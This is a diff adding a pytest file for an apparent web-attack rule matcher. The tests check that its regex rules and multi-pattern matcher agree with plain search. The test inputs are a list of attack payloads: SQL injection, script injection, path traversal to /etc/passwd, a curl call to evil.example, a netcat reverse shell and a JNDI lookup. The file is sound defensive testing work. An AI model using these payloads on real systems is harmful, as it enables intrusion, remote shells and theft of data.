@@ -0,0 +1,105 @@
+import json
+import re
+from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+
+from app.matcher import MultiMatcher, fold, required_literals
+from app.normalize import Views
+
+_CORPUS = Path(__file__).resolve().parents[1] / "benchmarks" / "corpus" / "sample.jsonl"
+
+_PAYLOADS = [
+    "' OR 1=1 --",
+    "1 UNION SELECT username, password FROM users",
+    "1 union/**/select null",
+    "1%20UNION%20SELECT%20null",
+    "1 %55NION %53ELECT null",
+    "ſelect * from users",
+    "<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    "<img src=x onerror=alert(1)>",
+    "javascript:alert(1)",
+    "../../../../etc/passwd",
+    "..%2f..%2f..%2fetc%2fpasswd",
+    "%252e%252e%252fetc%252fpasswd",
+    "; cat /etc/passwd",
+    "$(curl http://evil.example)",
+    "| nc -e /bin/sh 10.0.0.1 4444",
+    "{{7*7}}",
+    "${jndi:ldap://evil.example/a}",
+    "\\u003cscript\\u003e",
+    "sleep(5)",
+    "benchmark(1000000,md5(1))",
+    "drop table users",
+    "hello world",
+    "",
+]
+
+
+def _corpus_texts() -> list[str]:
+    texts = []
+    for line in _CORPUS.read_text(encoding="utf-8").splitlines():
+        entry = json.loads(line)
+        texts.extend(
+            entry[field] for field in ("path", "query", "body") if entry.get(field)
+        )
+    return texts
+
+
+def _texts() -> list[str]:
+    texts = _corpus_texts() + _PAYLOADS
+    # Case and padding variations of every payload.
+    texts += [text.upper() for text in _PAYLOADS]
+    texts += [f"name=bob&q={text}&page=2" for text in _PAYLOADS]
+    return texts
+
+
+@pytest.mark.parametrize("text", _texts())
+def test_ruleset_agrees_with_plain_search(seeded_rules, text):
+    expected = [
+        rule
+        for rule in seeded_rules.rules
+        if "body" in rule.targets and re.search(rule.pattern, Views(text).get(rule.transforms))
+    ]
+    assert seeded_rules.match({"body": text}) == expected
+
+
+@pytest.mark.parametrize("text", _texts())
+def test_multimatcher_agrees_with_plain_search(seeded_rules, text):
+    rules = [SimpleNamespace(pattern=rule.pattern) for rule in seeded_rules.rules]
+    matcher = MultiMatcher(rules)
+    assert matcher.match(text) == [rule for rule in rules if rule.pattern.search(text)]
+
+
+def test_required_literals():
+    # One literal of the sequence is enough; the longest is kept.
+    assert required_literals(re.compile(r"union\s+select", re.I)) == {"select"}
+    assert required_literals(re.compile(r"(?:foo|bar)baz", re.I)) == {"baz"}
+    assert required_literals(re.compile(r"(?:drop|alter)\s+", re.I)) == {"drop", "alter"}
+    # Nothing every match must contain: always evaluated.
+    assert required_literals(re.compile(r"\d+", re.I)) is None
+
+
+def test_required_literals_are_present_in_every_match():
+    pattern = re.compile(r"(?:drop|alter)\s+table", re.I)
+    literals = required_literals(pattern)
+    assert literals
+    for text in ("DROP TABLE x", "alter   table y"):
+        assert pattern.search(text)
+        assert any(literal in fold(text) for literal in literals)
+
+
+def test_fold_matches_ignorecase_equivalents():
+    assert fold("ſELECT") == "select"
+    assert fold("İNSERT") == "insert"
+    assert fold("plain") == "plain"
+
+
+def test_prefix_literals_trigger_shorter_ones():
+    rules = [SimpleNamespace(pattern=re.compile(p, re.I)) for p in ("sel", "select")]
+    matcher = MultiMatcher(rules)
+    assert matcher.match("SELECT 1") == rules
+    assert matcher.match("sel 1") == rules[:1]